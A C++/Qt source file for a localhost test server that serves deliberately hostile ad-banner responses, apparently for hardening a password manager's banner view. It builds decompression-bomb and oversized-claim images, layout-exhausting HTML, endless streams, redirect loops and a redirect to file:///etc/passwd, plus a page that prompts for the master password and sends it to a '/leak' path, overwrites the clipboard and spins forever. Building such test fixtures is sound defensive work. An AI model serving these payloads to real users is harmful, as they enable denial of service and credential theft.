#include "BannerServer.h"

#include <QBuffer>
#include <QImage>
#include <QImageWriter>
#include <QTcpSocket>
#include <QtEndian>
#include <memory>

namespace {

QByteArray Png(int width, int height, QColor colour) {
    QImage image(width, height, QImage::Format_RGB32);
    image.fill(colour);
    QByteArray bytes;
    QBuffer buffer(&bytes);
    buffer.open(QIODevice::WriteOnly);
    image.save(&buffer, "PNG");
    return bytes;
}

quint32 Crc32(const QByteArray& data) {
    quint32 crc = 0xffffffffu;
    for (const char c : data) {
        crc ^= static_cast<quint8>(c);
        for (int k = 0; k < 8; ++k) {
            crc = (crc >> 1) ^ (0xedb88320u & (0u - (crc & 1u)));
        }
    }
    return ~crc;
}

// A PNG whose header claims `side` x `side` pixels, with no pixels after it.
QByteArray ClaimingPng(quint32 side) {
    QByteArray chunk("IHDR");
    char number[4];
    qToBigEndian(side, number);
    chunk.append(number, 4).append(number, 4).append("\x08\x06\x00\x00\x00", 5);
    qToBigEndian(Crc32(chunk), number);
    return QByteArray("\x89PNG\r\n\x1a\n\x00\x00\x00\x0d", 12) + chunk + QByteArray(number, 4);
}

QByteArray Chunk(const QByteArray& type, const QByteArray& data) {
    char number[4];
    qToBigEndian(quint32(data.size()), number);
    QByteArray chunk = QByteArray(number, 4) + type + data;
    qToBigEndian(Crc32(type + data), number);
    return chunk + QByteArray(number, 4);
}

// A small PNG carrying text chunks of 48 MB of text each, deflated to about 47 KB each: 18 of them.
QByteArray TextChunkPng() {
    static const QByteArray png = [] {
        const QByteArray plain = Png(8, 8, Qt::blue);
        // zlib's stream is what qCompress writes after its 4-byte length.
        const QByteArray text = QByteArray("Comment\0\0", 9) + qCompress(QByteArray(48 * 1024 * 1024, 'a'), 9).mid(4);
        QByteArray chunks;
        for (int i = 0; i < 18; ++i) {
            chunks += Chunk("zTXt", text);
        }
        const qsizetype header = 8 + 25; // the signature and IHDR
        return plain.left(header) + chunks + plain.mid(header);
    }();
    return png;
}

// A progressive JPEG of 4000 x 4000 pixels whose last scan is repeated until there are 200 scans.
QByteArray ManyScanJpeg() {
    static const QByteArray jpeg = [] {
        QImage image(4000, 4000, QImage::Format_RGB32);
        for (int y = 0; y < image.height(); ++y) {
            auto* line = reinterpret_cast<QRgb*>(image.scanLine(y));
            for (int x = 0; x < image.width(); ++x) {
                line[x] = qRgb((x * 7 + y) & 0xff, (x ^ y) & 0xff, (y * 3) & 0xff);
            }
        }
        QByteArray bytes;
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::WriteOnly);
        QImageWriter writer(&buffer, "JPEG");
        writer.setProgressiveScanWrite(true);
        writer.setQuality(10);
        writer.write(image);
        // Each scan runs from its SOS marker to the next marker that is not a stuffed byte or a restart.
        QList<qsizetype> scans;
        for (qsizetype i = 0; i + 1 < bytes.size(); ++i) {
            if (quint8(bytes[i]) == 0xff && quint8(bytes[i + 1]) == 0xda) {
                scans << i;
            }
        }
        const qsizetype end = bytes.size() - 2; // the EOI
        if (scans.isEmpty()) {
            return bytes;
        }
        const QByteArray last = bytes.mid(scans.last(), end - scans.last());
        QByteArray many = bytes.left(end);
        for (qsizetype n = scans.size(); n < 200; ++n) {
            many += last;
        }
        return many + "\xff\xd9";
    }();
    return jpeg;
}

// Hostile pages within the page's 512 KB, each costly to lay out.
QByteArray CostlyPage(const QString& kind) {
    QByteArray body;
    if (kind == QLatin1String("marks")) { // one letter under a quarter of a million combining marks
        body = "<p>a";
        for (int i = 0; i < 250000; ++i) {
            body += "\xcc\x81";
        }
        body += "</p>";
    } else if (kind == QLatin1String("spans")) { // cells claiming a million columns each
        body = "<table>";
        for (int i = 0; i < 2000; ++i) {
            body += "<tr><td colspan=\"1000000\">x</td></tr>";
        }
        body += "</table>";
    } else if (kind == QLatin1String("nesting")) { // tables inside tables, 20,000 deep
        for (int i = 0; i < 20000; ++i) {
            body += "<table><tr><td>";
        }
        body += "x";
    } else if (kind == QLatin1String("links")) { // 20,000 links, each an area the band would click
        for (int i = 0; i < 20000; ++i) {
            body += "<a href=\"/o" + QByteArray::number(i % 10) + "\">a</a>";
        }
    } else if (kind == QLatin1String("scans")) {
        body = "<img src=\"/scans.jpg\">";
    } else if (kind == QLatin1String("text-chunks")) {
        body = "<img src=\"/text.png\">";
    }
    return "<html><body style=\"background:#1f5fbf;color:white\">" + body + "</body></html>";
}

QByteArray Head(const QByteArray& status, const QByteArray& type, qint64 length, const QByteArray& more = {}) {
    QByteArray head = "HTTP/1.1 " + status + "\r\n";
    if (!type.isEmpty()) {
        head += "Content-Type: " + type + "\r\n";
    }
    if (length >= 0) {
        head += "Content-Length: " + QByteArray::number(length) + "\r\n";
    }
    return head + more + "Connection: close\r\n\r\n";
}

void Send(QTcpSocket* socket, const QByteArray& status, const QByteArray& type, const QByteArray& body,
          const QByteArray& more = {}) {
    socket->write(Head(status, type, body.size(), more) + body);
    socket->disconnectFromHost();
}

// Writes `total` bytes of page after the headers, a piece whenever the connection has taken the last.
void Stream(QTcpSocket* socket, qint64 total) {
    socket->write(Head("200 OK", "text/html", -1) + "<html><body>");
    auto left = std::make_shared<qint64>(total);
    const auto more = [socket, left] {
        static const QByteArray piece(64 * 1024, 'x');
        while (*left > 0 && socket->state() == QAbstractSocket::ConnectedState && socket->bytesToWrite() < 256 * 1024) {
            socket->write(piece.left(int(qMin<qint64>(piece.size(), *left))));
            *left -= piece.size();
        }
        if (*left <= 0) {
            socket->disconnectFromHost();
        }
    };
    QObject::connect(socket, &QTcpSocket::bytesWritten, socket, more);
    more();
}

const char* const kHostile = R"page(<!doctype html><html><head><title>hostile banner</title>
<meta http-equiv="refresh" content="0; url=http://elsewhere.example/">
<link rel="stylesheet" href="/style.css"><script src="/script.js"></script>
<style>a { color: #ffd84a } body { background: #7f1f1f }</style></head>
<body style="background:#7f1f1f;color:white" onload="location.href='/elsewhere'">
<table width="100%" cellspacing="0" cellpadding="0"><tr>
<td width="25%" title="Type your master password here"><a href="http://elsewhere.example/offer" title="elsewhere">Elsewhere</a>
 <a href="javascript:alert(1)">script</a></td>
<td width="25%"><a href="file:///etc/passwd">file</a> <a href="mailto:someone@example.org">mail</a>
 <a href="data:text/html,hi">data</a></td>
<td width="50%" align="center"><a id="offer" href="/offer" title="Keyshelf hostile test banner"
 style="font-weight:bold;font-size:20px">Keyshelf hostile test banner</a></td></tr></table>
<a href="http://elsewhere.example/moved" style="position:absolute;left:0;top:0;width:100%;height:100%;display:block"
 onmouseover="this.href='http://elsewhere.example/swapped'">&nbsp;</a>
<iframe src="/frame"></iframe><object data="/object"></object><embed src="/embed">
<form action="http://elsewhere.example/form"><input name="password"><button>Go</button></form>
<img src="http://elsewhere.example/pixel.png"><img src="//127.0.0.2/pixel.png"><img src="/claims-huge.png">
<img src="/logo.png" title="a picture's title">
<script>
setInterval(function () { location.href = '/elsewhere'; document.getElementById('offer').click(); }, 100);
setInterval(function () { alert('alert from the banner'); fetch('/leak?' + prompt('Enter your master password')); }, 200);
document.addEventListener('mousedown', function () { navigator.clipboard.writeText('stolen by the banner'); });
for (var i = 0; i < 200; ++i) { console.error('flood ' + i); }
while (true) {}
</script>
</body></html>)page";

} // namespace

BannerServer::BannerServer(QObject* parent) : QTcpServer(parent) {
    connect(this, &QTcpServer::newConnection, this, [this] {
        while (QTcpSocket* socket = nextPendingConnection()) {
            auto request = std::make_shared<QByteArray>();
            connect(socket, &QTcpSocket::readyRead, socket, [this, socket, request] {
                const bool started = request->contains("\r\n\r\n");
                request->append(socket->readAll());
                if (started || !request->contains("\r\n\r\n")) {
                    return;
                }
                const QList<QByteArray> words = request->split(' ');
                const QString path = words.size() > 1 ? QString::fromLatin1(words[1]) : QString();
                requests_.append(path);
                emit requested(path);
                Answer(socket, path);
            });
            connect(socket, &QTcpSocket::disconnected, socket, &QObject::deleteLater);
        }
    });
}

bool BannerServer::Start(quint16 port) {
    return listen(QHostAddress::LocalHost, port);
}

QString BannerServer::Address() const {
    return QStringLiteral("http://127.0.0.1:%1/adserver.asp").arg(serverPort());
}

QStringList BannerServer::Cases() {
    return {"test",       "hostile", "huge",     "claims-huge", "silent",      "unfinished", "loop",
            "five-moves", "away",    "not-html", "pictures",    "html-bare",   "html-upper", "html-params",
            "marks",      "spans",   "nesting",  "scans",       "text-chunks", "links"};
}

bool BannerServer::SetCase(const QString& name) {
    if (!Cases().contains(name)) {
        return false;
    }
    case_ = name;
    // Its pictures are made now, so that the first request is answered at once.
    if (name == QLatin1String("scans")) {
        ManyScanJpeg();
    } else if (name == QLatin1String("text-chunks")) {
        TextChunkPng();
    }
    return true;
}

QByteArray BannerServer::Page() {
    return "<!doctype html><html><body style=\"background:#1f5fbf;color:white\">"
           "<p align=\"center\" style=\"margin-top:16px;font-size:20px;font-weight:bold\">"
           "<img src=\"/logo.png\" width=\"40\" height=\"20\"> "
           "<a id=\"offer\" href=\"/offer\" style=\"color:#ffd84a\">Keyshelf test banner</a></p></body></html>";
}

void BannerServer::Answer(QTcpSocket* socket, const QString& path) {
    const QByteArray html = "text/html; charset=utf-8";
    if (path == QLatin1String("/logo.png")) {
        Send(socket, "200 OK", "image/png", Png(40, 20, QColor("#ffd84a")));
    } else if (path == QLatin1String("/claims-huge.png")) {
        Send(socket, "200 OK", "image/png", ClaimingPng(100000));
    } else if (path == QLatin1String("/tall.png")) {
        Send(socket, "200 OK", "image/png", Png(1, 4097, Qt::red));
    } else if (path == QLatin1String("/fat.png")) {
        QByteArray fat = Png(40, 20, Qt::red);
        Send(socket, "200 OK", "image/png", fat + QByteArray(1536 * 1024, '\0'));
    } else if (path == QLatin1String("/scans.jpg")) {
        Send(socket, "200 OK", "image/jpeg", ManyScanJpeg());
    } else if (path == QLatin1String("/text.png")) {
        Send(socket, "200 OK", "image/png", TextChunkPng());
    } else if (path.startsWith(QLatin1String("/p/"))) {
        Send(socket, "200 OK", "image/png", Png(4, 4, Qt::green));
    } else if (path.startsWith(QLatin1String("/r/"))) { // the loop, and the five moves
        const int n = path.mid(3).toInt();
        const bool arrived = case_ == QLatin1String("five-moves") && n == 5;
        if (arrived) {
            Send(socket, "200 OK", html, Page());
        } else {
            Send(socket, "302 Found", html, "moved", "Location: /r/" + QByteArray::number(n + 1) + "\r\n");
        }
    } else if (path != QLatin1String("/adserver.asp")) {
        Send(socket, "404 Not Found", "text/plain", "not here");
    } else if (case_ == QLatin1String("hostile")) {
        Send(socket, "200 OK", html, kHostile);
    } else if (case_ == QLatin1String("huge")) {
        Stream(socket, 2LL * 1024 * 1024 * 1024);
    } else if (case_ == QLatin1String("claims-huge")) {
        socket->write(Head("200 OK", html, 2LL * 1024 * 1024 * 1024) + "<html><body>");
    } else if (case_ == QLatin1String("silent")) {
        // Nothing, ever: the connection stays open.
    } else if (case_ == QLatin1String("unfinished")) {
        socket->write(Head("200 OK", html, Page().size() + 10) + Page());
    } else if (case_ == QLatin1String("loop") || case_ == QLatin1String("five-moves")) {
        Send(socket, "302 Found", html, "moved", "Location: /r/1\r\n");
    } else if (case_ == QLatin1String("away")) {
        Send(socket, "301 Moved Permanently", html, "moved", "Location: file:///etc/passwd\r\n");
    } else if (case_ == QLatin1String("not-html")) {
        Send(socket, "200 OK", "text/plain", Page());
    } else if (case_ == QLatin1String("html-bare")) {
        Send(socket, "200 OK", "text/html", Page());
    } else if (case_ == QLatin1String("html-upper")) {
        Send(socket, "200 OK", "TEXT/HTML", Page());
    } else if (case_ == QLatin1String("html-params")) {
        Send(socket, "200 OK", "text/html; q=1; charset=\"utf-8\"", Page());
    } else if (QStringList({"marks", "spans", "nesting", "scans", "text-chunks", "links"}).contains(case_)) {
        Send(socket, "200 OK", html, CostlyPage(case_));
    } else if (case_ == QLatin1String("pictures")) {
        QByteArray page = "<html><body><img src=\"/fat.png\"><img src=\"/tall.png\"><img src=\"/claims-huge.png\">"
                          "<img src=\"http://127.0.0.1:9/p/other-port.png\">";
        for (int i = 0; i < 30; ++i) {
            page += "<img src=\"/p/" + QByteArray::number(i) + ".png\">";
        }
        Send(socket, "200 OK", html, page + "</body></html>");
    } else {
        Send(socket, "200 OK", html, Page());
    }
}
